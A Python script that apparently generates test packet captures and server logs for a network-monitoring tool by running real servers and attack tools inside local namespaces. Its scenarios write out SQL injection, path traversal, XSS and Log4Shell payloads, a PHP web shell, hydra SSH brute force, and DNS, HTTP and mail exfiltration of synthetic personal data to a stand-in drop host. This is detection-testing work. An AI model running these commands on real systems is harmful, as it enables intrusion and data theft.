#!/usr/bin/env python3
"""Makes the captures and logs of this folder with real programs.

Builds a small network of namespaces on this machine (nothing leaves it), runs real servers and clients in
them, records the bridge with tcpdump and keeps the servers' own logs. Needs root and the Debian packages
named in PACKAGES. The committed files are its output; run it again after changing a scenario.

  sudo tests/pcaps/make_captures.py [--only NAME] [--list]
"""
import argparse
import base64
import os
import pathlib
import shlex
import shutil
import signal
import subprocess
import sys
import tempfile
import time

PACKAGES = "tcpdump iproute2 ethtool nginx-light openssh-server openssh-client sshpass hydra nmap sqlmap dnsmasq dnsutils curl openssl samba smbclient vsftpd python3-aiosmtpd".split()
HERE = pathlib.Path(__file__).resolve().parent
BRIDGE = "fsbr0"
HOSTS = {
    "client": "10.62.123.57",  # an office computer of a county unit
    "web": "10.62.123.10",  # the county's query service
    "ssh": "10.62.123.22",  # a server with remote login
    "files": "10.62.123.30",  # a file server
    "dns": "10.62.0.53",  # the extranet's resolver
    "mail": "10.62.0.25",  # the extranet's mail relay
    "attacker": "198.51.100.23",  # outside (documentation range)
    "drop": "203.0.113.77",  # outside (documentation range)
}


def inside(host, command):
    """The command within a host's namespace, under a host name of its own (this machine's name stays out of the files)."""
    return ["ip", "netns", "exec", f"fs-{host}", "unshare", "--uts", "sh", "-c", f"hostname {host}; {command}"]


def run(command, check=True, **kwargs):
    return subprocess.run(command, shell=isinstance(command, str), check=check, capture_output=True, **kwargs)


class Network:
    """The namespaces, their servers and the recording."""

    def __init__(self, work):
        self.work = work
        self.processes = []

    def __enter__(self):
        self.clean()
        run(f"ip link add {BRIDGE} type bridge mcast_snooping 0 && ip link set {BRIDGE} up promisc on")
        run(f"sysctl -qw net.ipv6.conf.{BRIDGE}.disable_ipv6=1", check=False)
        for number, (name, address) in enumerate(HOSTS.items()):
            self.add_host(f"fs-{name}", f"fsv{number}", address)
        return self

    def add_host(self, namespace, link, address):
        run(f"ip netns add {namespace} && ip link add {link} type veth peer name eth0 netns {namespace}")
        run(f"ip link set {link} master {BRIDGE} up")
        for line in [
            "sysctl -qw net.ipv6.conf.all.disable_ipv6=1",
            "ip link set lo up",
            # Checksums are computed in software, so that the recording holds real ones; no segments over the MTU.
            "ethtool -K eth0 tx off rx off tso off gso off gro off",
            f"ip addr add {address}/32 dev eth0",
            "ip link set eth0 up",
            "ip route add default dev eth0",
        ]:
            run(f"ip netns exec {namespace} {line}", check=False)

    def __exit__(self, *_):
        self.stop_servers()
        self.clean()

    def clean(self):
        for name in HOSTS:
            run(f"ip netns del fs-{name}", check=False)
        run(f"ip link del {BRIDGE}", check=False)

    def server(self, host, command, log=None):
        out = open(self.work / log, "ab") if log else subprocess.DEVNULL
        process = subprocess.Popen(
            inside(host, "exec " + shlex.join(command)), stdout=out, stderr=out, start_new_session=True
        )
        self.processes.append(process)

    def stop_servers(self):
        for process in self.processes:
            try:
                os.killpg(process.pid, signal.SIGTERM)
                process.wait(timeout=5)
            except (ProcessLookupError, subprocess.TimeoutExpired):
                os.killpg(process.pid, signal.SIGKILL)
        self.processes.clear()

    def wait_for(self, host, port):
        for _ in range(100):
            if run(f"ip netns exec fs-{host} ss -lnt", text=True).stdout.find(f":{port} ") >= 0:
                return
            time.sleep(0.1)
        raise SystemExit(f"nothing listens on port {port} of {host}: see the logs in {self.work}")

    def at(self, host, command, timeout=60):
        """Runs a client; its failure is part of the scenario (attacks fail), a hang is not."""
        return subprocess.run(inside(host, command), capture_output=True, timeout=timeout)

    def record(self, name, scenario):
        path = self.work / f"{name}.pcap"
        dump = subprocess.Popen(
            ["tcpdump", "-i", BRIDGE, "-U", "-s", "0", "-w", str(path), "ip or arp"], stderr=subprocess.PIPE
        )
        dump.stderr.readline()
        scenario(self)
        time.sleep(1)
        dump.send_signal(signal.SIGINT)
        dump.wait(timeout=10)
        return path


def start_web(net):
    folder = net.work / "upload"
    folder.mkdir(exist_ok=True)
    (net.work / "nginx.conf").write_text(
        f"""daemon off; pid {net.work}/nginx.pid; error_log {net.work}/nginx-error.log; worker_processes 1;
events {{}}
http {{
  access_log {net.work}/nginx-access.log combined;
  client_body_temp_path {net.work}/body; proxy_temp_path {net.work}/proxy; fastcgi_temp_path {net.work}/f1;
  uwsgi_temp_path {net.work}/f2; scgi_temp_path {net.work}/f3;
  server {{ listen {HOSTS['web']}:80; location / {{ proxy_pass http://127.0.0.1:8080; }} }}
}}"""
    )
    net.server("web", ["python3", str(HERE / "servers/vulnerable_app.py"), "127.0.0.1", "8080", str(folder)])
    net.wait_for("web", 8080)
    net.server("web", ["nginx", "-c", str(net.work / "nginx.conf")])
    net.wait_for("web", 80)


def start_dns(net):
    net.server(
        "dns",
        ["dnsmasq", "-k", "-C", "/dev/null", "--no-resolv", "--no-hosts", "--bind-interfaces", f"--listen-address={HOSTS['dns']}",
         f"--address=/gov.example/{HOSTS['web']}", "--address=/update.example/203.0.113.77", "--txt-record=info.gov.example,v=1"],
    )
    net.wait_for("dns", 53)


def normal_web(net):
    for path in ["/", "/notice?id=1", "/notice?id=2", "/notice?id=3", "/missing"]:
        net.at("client", f"curl -s --resolve www.gov.example:80:{HOSTS['web']} 'http://www.gov.example{path}'")
    for name in ["www.gov.example", "oa.gov.example", "info.gov.example"]:
        net.at("client", f"dig +tries=1 +time=2 @{HOSTS['dns']} {name}; dig +tries=1 +time=2 @{HOSTS['dns']} -t TXT {name}")
    net.at("client", f"dig +tcp +tries=1 +time=2 @{HOSTS['dns']} mail.gov.example")


def port_scan(net):
    net.at("attacker", f"nmap -n -Pn -sS --max-rate 300 --top-ports 150 {HOSTS['web']} {HOSTS['ssh']}", timeout=90)
    net.at("attacker", f"nmap -n -Pn -sT -p 80 -sV --version-light --script http-title,http-methods {HOSTS['web']}", timeout=90)


def web_attack(net):
    base = f"http://{HOSTS['web']}"
    net.at("attacker", f"sqlmap -u '{base}/notice?id=1' --batch --technique=BU --level 1 --flush-session "
                       f"--output-dir {net.work}/sqlmap --disable-coloring --dbms sqlite --tables", timeout=120)
    for attack in [
        "/notice?id=1%20UNION%20SELECT%20name,sql%20FROM%20sqlite_master--",
        "/..%2f..%2f..%2f..%2fetc%2fpasswd",
        "/notice?id=%3Cscript%3Ealert(document.cookie)%3C/script%3E",
        "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh",
    ]:
        net.at("attacker", f"curl -s --path-as-is '{base}{attack}'")
    net.at("attacker", f"curl -s -H 'User-Agent: ${{jndi:ldap://203.0.113.77/a}}' '{base}/'")
    shell = "<?php @eval($_POST['pass']); system($_GET['cmd']); ?>"
    net.at("attacker", f"curl -s -H 'Content-Type: application/octet-stream' --data-binary \"{shell.replace('$', chr(92) + '$')}\" '{base}/upload?name=help.php'")
    for command in ["id", "whoami", "uname%20-sr", "cat%20/etc/passwd"]:
        net.at("attacker", f"curl -s '{base}/upload/help.php?cmd={command}'")


def start_ssh(net):
    for kind in ["ed25519", "rsa"]:
        run(f"ssh-keygen -q -t {kind} -N '' -f {net.work}/host_{kind}")
    user = "fsdemo"
    run(f"id {user} || useradd -m -s /bin/sh {user}; echo {user}:Summer2026 | chpasswd")
    (net.work / "sshd_config").write_text(
        f"Port 22\nListenAddress {HOSTS['ssh']}\nHostKey {net.work}/host_ed25519\nHostKey {net.work}/host_rsa\n"
        f"PidFile {net.work}/sshd.pid\nPasswordAuthentication yes\nUsePAM no\nPermitRootLogin no\nMaxAuthTries 3\nMaxStartups 30\n"
    )
    pathlib.Path("/run/sshd").mkdir(exist_ok=True)
    # sshd writes bare lines; the header of RFC 3164 is what a syslog daemon would put before them.
    header = """while IFS= read -r line; do printf '<86>%s ssh sshd[22]: %s\\n' "$(date '+%b %e %T')" "$line"; done"""
    net.server("ssh", ["sh", "-c", f"/usr/sbin/sshd -D -e -f {net.work}/sshd_config 2>&1 | {header}"], log="sshd.log")
    net.wait_for("ssh", 22)


def ssh_bruteforce(net):
    words = net.work / "passwords.txt"
    words.write_text("\n".join([f"Winter{year}" for year in range(2010, 2026)] + ["123456", "admin", "password", "Summer2026"]) + "\n")
    net.at("attacker", f"hydra -I -l fsdemo -P {words} -t 4 ssh://{HOSTS['ssh']}", timeout=120)
    net.at("attacker", "sshpass -p Summer2026 ssh -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null "
                       f"fsdemo@{HOSTS['ssh']} 'id; uname -sr'")


def tls_versions(net):
    certificate = f"-x509 -newkey rsa:2048 -nodes -days 30 -subj '/C=CN/ST=Gansu/O=Test unit/CN=oa.gov.example'"
    run(f"openssl req {certificate} -keyout {net.work}/tls.key -out {net.work}/tls.crt")
    for port, options in [(443, ["-tls1_3"]), (8443, ["-tls1_2"]), (9443, ["-tls1", "-cipher", "ALL:@SECLEVEL=0"])]:
        net.server("web", ["openssl", "s_server", "-accept", f"{HOSTS['web']}:{port}", "-cert", f"{net.work}/tls.crt",
                           "-key", f"{net.work}/tls.key", "-www", "-quiet", *options])
        net.wait_for("web", port)
        ask = f"printf 'GET / HTTP/1.0\\r\\n\\r\\n' | openssl s_client -connect {HOSTS['web']}:{port} -servername oa.gov.example -ign_eof {' '.join(options)}"
        net.at("client", ask, timeout=20)
    net.at("client", f"curl -sk --tls-max 1.2 --resolve oa.gov.example:8443:{HOSTS['web']} https://oa.gov.example:8443/")


def dns_exfiltration(net):
    run(f"python3 {HERE}/personal_data.py 40 {net.work}/people.csv")
    text = base64.b32encode((net.work / "people.csv").read_bytes()).decode().strip("=").lower()
    for number in range(0, min(len(text), 120 * 40), 120):
        chunk = text[number : number + 120]
        labels = ".".join(chunk[index : index + 60] for index in range(0, len(chunk), 60))
        net.at("client", f"dig +tries=1 +time=1 @{HOSTS['dns']} -t TXT {number // 120}.{labels}.update.example")


def http_exfiltration(net):
    run(f"python3 {HERE}/personal_data.py 300 {net.work}/people.csv")
    run(f"python3 {HERE}/personal_data.py 120 {net.work}/people_gbk.csv gb18030")
    program = net.work / "tool.bin"
    program.write_bytes(pathlib.Path("/bin/true").read_bytes()[:20000])
    net.server("drop", ["python3", str(HERE / "servers/collector.py"), HOSTS["drop"], "80", str(program)])
    net.wait_for("drop", 80)
    net.at("client", f"curl -s -A 'Mozilla/5.0 (Windows NT; Windows NT 10.0; zh-CN) WindowsPowerShell/5.1' http://{HOSTS['drop']}/tool.bin -o /dev/null")
    net.at("client", f"curl -s -H 'Host: update.example' -H 'Content-Type: text/csv' --data-binary @{net.work}/people.csv http://{HOSTS['drop']}/sync")
    net.at("client", f"curl -s -F 'file=@{net.work}/people_gbk.csv;filename=名单.csv' http://{HOSTS['drop']}/upload")
    for _ in range(12):
        net.at("client", f"curl -s -A 'Mozilla/4.0' http://{HOSTS['drop']}/ping -o /dev/null")
        time.sleep(1)


def file_shares(net):
    share = net.work / "share"
    share.mkdir(exist_ok=True)
    share.chmod(0o777)
    run(f"python3 {HERE}/personal_data.py 60 {share}/people.csv")
    (net.work / "smb.conf").write_text(
        f"[global]\nworkgroup = GOV\nmap to guest = bad user\nlog file = {net.work}/smb.log\nprivate dir = {net.work}/smbp\n"
        f"lock directory = {net.work}/smbl\nstate directory = {net.work}/smbl\ncache directory = {net.work}/smbl\npid directory = {net.work}/smbl\n"
        f"interfaces = eth0\nbind interfaces only = yes\ndisable netbios = yes\nsmb ports = 445\n[public]\npath = {share}\nguest ok = yes\nread only = no\nforce user = root\n"
    )
    for folder in ["smbp", "smbl"]:
        (net.work / folder).mkdir(exist_ok=True)
    net.server("files", ["/usr/sbin/smbd", "-F", "--no-process-group", "-s", str(net.work / "smb.conf")])
    net.wait_for("files", 445)
    net.at("client", f"cd {net.work} && smbclient -N //{HOSTS['files']}/public -c 'ls; get people.csv got.csv; put nginx.conf copy.txt' -s {net.work}/smb.conf")
    (net.work / "vsftpd.conf").write_text(
        f"listen=YES\nlisten_address={HOSTS['files']}\nanonymous_enable=NO\nlocal_enable=YES\nwrite_enable=YES\nseccomp_sandbox=NO\n"
        "secure_chroot_dir=/var/run/vsftpd/empty\nbackground=NO\npam_service_name=other\ncheck_shell=NO\n"
    )
    pathlib.Path("/var/run/vsftpd/empty").mkdir(parents=True, exist_ok=True)
    net.server("files", ["/usr/sbin/vsftpd", str(net.work / "vsftpd.conf")])
    net.wait_for("files", 21)
    net.at("client", f"curl -s --max-time 10 -u fsdemo:Summer2026 ftp://{HOSTS['files']}/")
    net.at("client", f"curl -s --max-time 10 -u fsdemo:wrong ftp://{HOSTS['files']}/")


def mail(net):
    net.server("mail", ["/usr/bin/python3", "-m", "aiosmtpd", "-n", "-l", f"{HOSTS['mail']}:25", "-c", "aiosmtpd.handlers.Sink"])
    net.wait_for("mail", 25)
    run(f"python3 {HERE}/personal_data.py 20 {net.work}/mail.csv")
    (net.work / "mail.txt").write_bytes(
        b"From: sender@gov.example\r\nTo: receiver@outside.example\r\nSubject: =?utf-8?b?" + base64.b64encode("名单".encode()) + b"?=\r\n"
        b"MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=part\r\n\r\n--part\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n"
        + "请查收附件。\r\n".encode() + b"--part\r\nContent-Type: text/csv; name=people.csv\r\nContent-Transfer-Encoding: base64\r\n"
        b"Content-Disposition: attachment; filename=people.csv\r\n\r\n" + base64.encodebytes((net.work / "mail.csv").read_bytes()).replace(b"\n", b"\r\n")
        + b"--part--\r\n"
    )
    net.at("client", f"curl -s smtp://{HOSTS['mail']} --mail-from sender@gov.example --mail-rcpt receiver@outside.example --upload-file {net.work}/mail.txt")


SCENARIOS = {
    "normal-web-dns": ([start_web, start_dns], normal_web),
    "port-scan": ([start_web], port_scan),
    "web-attack": ([start_web], web_attack),
    "ssh-bruteforce": ([start_ssh], ssh_bruteforce),
    "tls-versions": ([], tls_versions),
    "dns-exfiltration": ([start_dns], dns_exfiltration),
    "http-exfiltration": ([], http_exfiltration),
    "file-shares": ([start_web], file_shares),
    "mail": ([], mail),
}
LOGS = {"web-attack": ("nginx-access.log", "web-attack.nginx.log"), "ssh-bruteforce": ("sshd.log", "ssh-bruteforce.sshd.log")}


def keep(path, target):
    text = path.read_bytes()
    target.write_bytes(text)
    print(f"{target.name}: {len(text)} bytes")


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--only", help="make one scenario")
    parser.add_argument("--list", action="store_true", help="print the scenarios")
    options = parser.parse_args()
    if options.list:
        print("\n".join(SCENARIOS))
        return
    if os.geteuid() != 0 or not shutil.which("tcpdump"):
        sys.exit("needs root and these packages: apt-get install " + " ".join(PACKAGES))
    for name, (servers, scenario) in SCENARIOS.items():
        if options.only not in (None, name):
            continue
        with tempfile.TemporaryDirectory(prefix="fengsui-") as folder:
            work = pathlib.Path(folder)
            work.chmod(0o755)
            with Network(work) as net:
                for start in servers:
                    start(net)
                keep(net.record(name, scenario), HERE / f"{name}.pcap")
                if name in LOGS:
                    keep(work / LOGS[name][0], HERE.parent / "logs" / LOGS[name][1])
    run("userdel -r fsdemo", check=False)


if __name__ == "__main__":
    main()
